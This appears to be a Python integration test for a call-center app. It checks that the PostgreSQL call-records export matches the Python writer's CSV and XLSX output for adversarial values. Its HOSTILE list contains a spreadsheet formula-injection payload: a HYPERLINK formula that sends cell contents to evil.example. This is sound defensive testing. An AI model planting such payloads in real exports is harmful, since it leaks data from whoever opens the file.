"""On PostgreSQL the call records export is written by the database
(exports.calls_pg). Its CSV must be byte for byte, and its XLSX cells value
for value, what the Python writer (`tables._call_rows`) gives for the same
rows: here rows built to trip it (text that looks like a formula or holds a
comma, a quote, a newline, a backslash or a tab; gaps of exactly half a
second; recording lengths on a tie; calls with no agent, no list name, no
disposition label)."""

from __future__ import annotations

import itertools
from datetime import date, timedelta

from sqlalchemy import select

from callcenter.db import Database
from callcenter.models import (
    Call,
    CallRecording,
    Campaign,
    Disposition,
    StepOutcome,
    User,
)
from callcenter.models.calls import StepAction
from callcenter.models.recordings import RecordingStatus
from callcenter.services.exports import calls_pg, start_export
from callcenter.services.exports.tables import _call_rows, call_sheets
from callcenter.services.exports.writers import RowCounter, Sheet, csv_chunks
from callcenter.services.reports import ReportFilters
from callcenter.states import CallDirection, DispositionCategory
from tests.integration.reports.report_dataset import build

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    'a, b and "c"',
    "line one\nline two\r\nline three",
    "back\\slash \\n not a newline",
    "\ttabbed",
    "-12.5",
    "+98 912",
    "＝全角",
    "ends with a backslash\\",
]


def _hostile_rows(database: Database) -> ReportFilters:
    with database.unit_of_work() as session:
        data = build(session)
        names = itertools.cycle(HOSTILE)
        campaign = session.get(Campaign, data.campaigns["C1"].id)
        assert campaign is not None
        campaign.name = next(names)
        agent = session.get(User, data.users["a1"].id)
        assert agent is not None
        agent.full_name = next(names)
        calls = list(session.scalars(select(Call).order_by(Call.dialed_at, Call.id)))
        for number, call in enumerate(calls):
            if call.connected_at is not None and call.ended_at is not None:
                # Exactly n + 0.5 s of talk: Python rounds a half to even.
                call.ended_at = call.connected_at + timedelta(seconds=number, milliseconds=500)
            call.phone_e164 = next(names)[:20] if number % 3 == 0 else call.phone_e164
            if number % 4 == 1:  # a customer who rang back, handed on by the hostile-named agent
                call.direction = CallDirection.INBOUND
                call.opened_by_id = agent.id
            outcome = session.scalar(
                select(StepOutcome).where(
                    StepOutcome.call_id == call.id, StepOutcome.action == StepAction.REJECT
                )
            )
            if outcome is not None:
                outcome.reason_text = next(names)
            elif number % 2:
                session.add(
                    StepOutcome(
                        call_id=call.id,
                        seq=99,
                        step_number=2,
                        action=StepAction.REJECT,
                        reason_code=next(names)[:64],
                        reason_text="",
                    )
                )
            if session.scalar(select(Disposition).where(Disposition.call_id == call.id)) is None:
                session.add(
                    Disposition(
                        call_id=call.id,
                        code=["wrap_up_timeout", "no_such_code", "=code"][number % 3],
                        category=DispositionCategory.FINAL,
                        agent_id=data.users["a2"].id,
                    )
                )
            session.add(
                CallRecording(
                    call_id=call.id,
                    campaign_id=call.campaign_id,
                    status=list(RecordingStatus)[number % len(RecordingStatus)],
                    started_at=call.dialed_at,
                    # Ties at the tenth (1,250 / 1,350 / 12,050 ms ...) and plain lengths.
                    duration_ms=[1250, 1350, 1450, 12050, 250, 7, None, 60_000][number % 8],
                    sha256=next(names)[:64] if number % 4 == 0 else "ab" * 32,
                )
            )
    return ReportFilters(date_from=date(2025, 5, 1), date_to=date(2025, 5, 31))


def _python_csv(database: Database, filters: ReportFilters, locale: str) -> bytes:
    with database.read_sessions() as session:
        headers = call_sheets(session, filters, locale)[0].headers
        sheet = Sheet("calls", headers, _call_rows(session, filters, locale))
        return b"".join(csv_chunks([sheet], RowCounter(), titles=False))


def test_the_database_writes_the_csv_the_python_writer_writes(
    postgres_database: Database,
) -> None:
    filters = _hostile_rows(postgres_database)
    for locale in ("fa", "en"):
        export = start_export(
            postgres_database,
            kind="calls",
            fmt="csv",
            filters=filters,
            locale=locale,
            actor_id=None,
        )
        written = b"".join(export.chunks)
        expected = _python_csv(postgres_database, filters, locale)
        assert expected.count(b"\r\n") > 11
        assert written == expected


def test_the_database_gives_the_xlsx_cells_the_python_writer_gives(
    postgres_database: Database,
) -> None:
    filters = _hostile_rows(postgres_database)
    with postgres_database.read_sessions() as session:
        assert calls_pg.supported(session)
        typed = [list(row) for row in calls_pg.typed_rows(session, filters, "fa", batch=3)]
    with postgres_database.read_sessions() as session:
        expected = [list(row) for row in _call_rows(session, filters, "fa")]
    assert len(typed) == len(expected) > 11
    for got, want in zip(typed, expected, strict=True):
        assert [type(value) for value in got] == [type(value) for value in want]
        assert got == want
